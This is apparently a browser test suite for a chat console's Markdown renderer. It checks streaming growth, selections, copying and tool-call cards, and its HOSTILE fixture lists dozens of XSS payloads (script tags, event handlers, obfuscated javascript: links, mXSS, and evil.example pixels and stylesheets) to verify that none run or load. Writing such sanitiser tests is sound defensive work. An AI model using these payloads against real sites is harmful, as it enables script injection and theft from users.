"""Markdown in a real browser: it grows in place, and nothing in it can run, load or lead astray."""

from __future__ import annotations

import json
import re
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import BrowserContext, Page, WebSocketRoute, expect

from tests.browser.console import Console
from tests.browser.site import Site

#: What tried to break out of pages like this one, each in a line or block of its own.
HOSTILE = r"""
<script>globalThis.broken = 1</script>

<img src=x onerror="globalThis.broken = 2"> <svg onload="globalThis.broken = 3"><circle/></svg>

</script><script>globalThis.broken = 4</script> </div></main></body>
<iframe srcdoc="<script>top.broken = 5</script>"></iframe>

[a](javascript:globalThis.broken=6) [b](JaVaScRiPt:globalThis.broken=7) [c](<java	script:globalThis.broken=8>)
[d](javascript&#58;globalThis.broken=9) [e](&#106;avascript:globalThis.broken=10)
[f](javascript&colon;globalThis.broken=11)
[g](data:text/html,<script>globalThis.broken=12</script>) [h](vbscript:x) [i](//evil.example/x) [j]( javascript:x)
<javascript:globalThis.broken=13> <data:text/html,x> [k](https://a.example/"onmouseover="globalThis.broken=14)

[title](https://a.example/ "\" onmouseover=\"globalThis.broken=15")
[title](https://a.example/ '"><img src=x onerror=broken=16>')

![pixel](https://evil.example/pixel.png?secret=1) ![x](data:image/svg+xml,<svg/onload=broken=17>)
[![in](https://evil.example/i.png)](https://evil.example/)

[ref][r] and [r] and ![ref][r] and [s]

[r]: javascript:globalThis.broken=18
[s]: https://evil.example/x "<img src=x onerror=broken=19>"

| <script>globalThis.broken=20</script> | <img src=x onerror=globalThis.broken=21> |
|---|---|
| [x](javascript:broken=22) | <b onclick=broken=23>cell</b> |

```html"><img src=x onerror=globalThis.broken=24>
<script>globalThis.broken = 25</script>
</code></pre><img src=x onerror="globalThis.broken = 26">
```

    <script>globalThis.broken = 27</script>

`<img src=x onerror=globalThis.broken=28>` <https://evil.example/<script>> https://evil.example/"><script>broken=29</script>

- <a href="javascript:globalThis.broken=30">raw</a>
- [ ] <input autofocus onfocus=globalThis.broken=31>

> <style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/y.png) }</style>

<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.broken=32&gt;">
"""

#: Elements that a message may consist of.
ALLOWED = (
    "p,h3,h4,h5,h6,em,strong,s,code,pre,br,hr,ul,ol,li,blockquote,table,thead,tbody,tr,th,td,a,input,button,div,span"
)

LOOK = """
(allowed) => {
  const inside = [...document.querySelectorAll(".message .text *")];
  return {
    strangers: inside.filter((e) => !e.matches(allowed)).map((e) => e.outerHTML),
    handlers: inside.flatMap((e) => e.getAttributeNames()).filter((name) => /^on|^style|^src/i.test(name)),
    links: inside.filter((e) => e.localName === "a").map((e) => [e.href, e.target, e.rel, e.title]),
    broken: globalThis.broken ?? null,
  };
}
"""


class Witness:
    """Notes what a page asks for and complains about."""

    def __init__(self, page: Page) -> None:
        self.hosts: set[str | None] = set()
        self.complaints: list[str] = []
        self.dialogs: list[str] = []
        page.on("request", lambda request: self.hosts.add(urlsplit(request.url).hostname))
        page.on("websocket", lambda socket: self.hosts.add(urlsplit(socket.url).hostname))
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))

    def saw_nothing(self) -> None:
        """The page kept to itself, and tried nothing that its policy forbids."""
        assert self.hosts == {"127.0.0.1"}
        assert (self.complaints, self.dialogs) == ([], [])


#: Shows each beginning of a text, as a stream would.
GROW = """
async (text) => {
  const { MarkdownView } = await import("/console/view.js");
  const item = Object.assign(document.createElement("li"), { className: "message" });
  const place = Object.assign(document.createElement("div"), { className: "text prose" });
  item.append(place);
  document.getElementById("messages").append(item);
  const view = new MarkdownView(place);
  for (let end = 0; end < text.length; end += 2) {
    while (!view.update(text.slice(0, end), false)) await new Promise((resolve) => setTimeout(resolve));
  }
  view.update(text, true);
}
"""


async def _harmless(page: Page) -> None:
    """Nothing in the messages can run or load anything, and all links say where they lead."""
    for place in await page.locator(".message .text a, .message .text :not(:has(*))").all():
        await place.dispatch_event("mouseover")
    seen = await page.evaluate(LOOK, ALLOWED)
    assert (seen["strangers"], seen["handlers"], seen["broken"]) == ([], [], None)
    assert seen["links"]
    for href, target, rel, title in seen["links"]:
        assert re.match(r"https://(a|evil)\.example/", href), href
        assert (target, rel) == ("_blank", "noopener noreferrer nofollow")
        assert title.startswith(urlsplit(href).netloc)


@pytest.mark.feature("E03")
async def test_scripts_in_an_answer_never_run(page: Page, site: Site) -> None:
    witness = Witness(page)
    console = await Console(page).open(site.url)
    await page.get_by_test_id("log-toggle").click()
    await console.say(f"echo {HOSTILE}")
    await console.complete()
    # What is not formatted is still there to be read.
    shown = await console.text(console.answers.last).text_content()
    assert shown is not None
    for raw in ("<script>globalThis.broken = 1</script>", "<svg onload=", "[a](javascript:", "<style>@import"):
        assert raw in shown
    await _harmless(page)
    await page.reload()
    await console.connected()
    await console.complete()
    await _harmless(page)
    await console.search.fill("<script>globalThis")
    await expect(page.get_by_test_id("excerpt")).to_contain_text("<script>")
    assert await page.locator("#session-list :is(script, img), #log :is(script, img)").count() == 0
    assert await page.evaluate("globalThis.broken") is None
    witness.saw_nothing()


async def test_nor_does_any_beginning_of_one(page: Page, site: Site) -> None:
    witness = Witness(page)
    await Console(page).open(site.url)
    await page.evaluate(GROW, HOSTILE)
    await _harmless(page)
    witness.saw_nothing()


async def test_the_browser_itself_refuses_markup_made_of_text(page: Page, site: Site) -> None:
    await Console(page).open(site.url)
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.createElement('iframe').srcdoc = '<b>x</b>'",
        "document.createElement('script').text = 'x'",
        "trustedTypes.createPolicy('mine', {})",
    ):
        refused = await page.evaluate(
            f"() => {{ try {{ {attempt}; return null; }} catch (error) {{ return error.name; }} }}"
        )
        assert refused == "TypeError", attempt


@pytest.mark.feature("A01", "E03")
async def test_what_grew_is_what_comes_at_once(page: Page, site: Site) -> None:
    console = await Console(page).open(site.url)
    await console.watch_lengths()
    await console.say("show markdown")
    await console.complete()
    grown = await console.markup(console.answers.last)
    for piece in ("<h3 ", "<strong>bold</strong>", "<table>", "<ol>", "<blockquote>", 'data-language="python"', "<hr>"):
        assert piece in grown
    lengths = await console.lengths()
    assert lengths == sorted(lengths), "the text never shrinks"
    await page.reload()
    await console.connected()
    await console.complete()
    assert await console.markup(console.answers.last) == grown
    colours: int = await page.evaluate("CSS.highlights.get('code-keyword').size")
    assert colours > 0


async def test_a_selection_outlives_what_is_written_behind_it(page: Page, site: Site) -> None:
    console = await Console(page).open(site.url)
    await console.say("write 2000 words about rivers at 100 per second")
    await console.writing("rivers")
    paragraphs = console.text(console.answers.last).locator("p")
    await expect(paragraphs.nth(1)).to_be_attached()
    selected = await paragraphs.first.evaluate(
        "node => { getSelection().selectAllChildren(node); return `${getSelection()}`; }"
    )
    assert len(selected) > 50
    site.hurry()
    await console.complete()
    assert await paragraphs.count() > 3
    assert await page.evaluate("`${getSelection()}`") == selected


async def test_an_open_block_grows_in_place(page: Page, site: Site) -> None:
    """Also a selection in the paragraph that is being written stays."""
    console = await Console(page).open(site.url)
    await console.say("count to 2000 at 100 per second")
    await console.writing(" 20 ")
    paragraph = console.text(console.answers.last).locator("p")
    await paragraph.evaluate("p => getSelection().setBaseAndExtent(p.firstChild, 0, p.firstChild, 9)")
    site.hurry()
    await console.complete()
    assert await page.evaluate("`${getSelection()}`") == "1 2 3 4 5"


async def test_a_new_attempt_takes_the_place_of_the_former(page: Page, site: Site) -> None:
    channels: list[WebSocketRoute] = []

    def listen(client: WebSocketRoute) -> None:
        channels.append(client)
        client.connect_to_server()

    await page.route_web_socket(re.compile("/ws"), listen)
    console = await Console(page).open(site.url)

    def delta(attempt: int, text: str) -> None:
        payload: dict[str, Any] = {"message_id": "m", "attempt": attempt, "part": "content", "offset": 0, "text": text}
        frame = {"event_type": "message_delta", "session_id": "s", "timestamp": "2026-01-02T03:04:05Z"}
        channels[-1].send(json.dumps(frame | {"payload": payload}))

    delta(1, "# One\n\nsome **bold\n\n```js\nlet x")
    await expect(console.text(console.answers)).to_contain_text("let x")
    delta(2, "Two\n\n- a")
    await expect(console.text(console.answers)).to_have_text("Twoa")
    assert await console.markup(console.answers) == "<p>Two</p><ul><li>a</li></ul>"


async def test_code_and_messages_are_copied_as_they_were_written(
    browser_context: BrowserContext, page: Page, site: Site
) -> None:
    await browser_context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site.url)
    console = await Console(page).open(site.url)
    await console.say("echo **Look**:\n\n```sh\nls -l  # <here>\n```")
    await console.complete()
    await page.get_by_test_id("copy-code").click()
    await console.copied("ls -l  # <here>")
    await console.answers.get_by_test_id("copy-message").click()
    await console.copied("**Look**:\n\n```sh\nls -l  # <here>\n```")
    # Neither the button nor the language is a part of the text that is selected.
    await page.evaluate("getSelection().selectAllChildren(document.querySelector('[data-role=assistant] .content'))")
    assert (await page.evaluate("`${getSelection()}`")).split() == ["Look:", "ls", "-l", "#", "<here>"]


async def test_what_a_person_writes_is_shown_as_written(page: Page, site: Site) -> None:
    console = await Console(page).open(site.url)
    await console.say("echo **not bold**  <b>\n\n    four spaces")
    await console.complete()
    assert await console.text(console.questions).text_content() == "echo **not bold**  <b>\n\n    four spaces"
    assert await console.text(console.questions).locator("*").count() == 0


async def test_wide_code_and_tables_scroll_by_themselves(page: Page, site: Site) -> None:
    await page.set_viewport_size({"width": 390, "height": 780})
    console = await Console(page).open(site.url)
    table = "| a | b |\n|---|---|\n| " + "wide`cell`" * 20 + " | x |"
    await console.say(f"echo {table}\n\n```\n{'wide ' * 60}\n```\n\n{'unbroken' * 40}")
    await console.complete()
    assert await page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    assert await page.get_by_test_id("scroll").evaluate("node => node.scrollWidth - node.clientWidth") <= 0
    for place in (".message pre", ".message .table"):
        assert await page.locator(place).evaluate("node => node.scrollWidth - node.clientWidth") > 0


@pytest.mark.feature("E03")
async def test_a_tool_call_is_a_card_with_what_came_of_it(page: Page, site: Site) -> None:
    console = await Console(page).open(site.url)
    await console.say("calculate 6*7")
    await console.complete(answers=2)
    card = page.get_by_test_id("call")
    await expect(card).to_have_attribute("data-state", "done")
    await card.locator("summary").click()
    await expect(card.locator("pre")).to_have_text([re.compile('"expression": "6\\*7"'), re.compile("42")])
    # The result stands there, and not as a message of its own once more.
    await expect(page.locator('[data-testid="message"][data-role="tool"]')).to_have_count(0)
